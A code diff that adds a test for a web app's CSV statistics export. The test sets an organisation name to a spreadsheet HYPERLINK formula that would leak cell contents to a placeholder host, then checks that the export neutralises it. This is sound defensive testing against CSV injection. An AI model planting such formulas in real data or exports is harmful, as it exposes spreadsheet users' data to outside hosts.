@@ -191,3 +191,14 @@ def test_an_empty_territory_says_so(client, coordinator, territory):
     client.force_login(coordinator)
     page = client.get(stats_url(territory)).content.decode()
     assert "Aucun diagnostic terminé pour le moment" in page
+
+
+def test_a_structure_named_as_a_formula_is_neutralised_in_the_csv(
+    client, coordinator, territory, organisation, many_screenings
+):
+    organisation.name = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")'
+    organisation.save()
+    client.force_login(coordinator)
+    cells = [cell for row in export(client, territory) for cell in row]
+    assert "'" + organisation.name in cells
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
